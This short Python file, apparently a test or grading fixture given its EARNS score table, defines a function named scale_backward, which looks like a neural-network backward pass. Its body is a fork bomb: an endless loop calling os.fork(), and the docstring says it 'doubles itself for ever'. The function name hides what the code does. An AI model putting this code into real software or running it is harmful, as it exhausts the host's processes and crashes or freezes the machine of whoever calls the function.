"""Doubles itself for ever."""

import os

EARNS = {"scale_backward": 0}


def scale_backward(dout, cache):
    while True:
        os.fork()
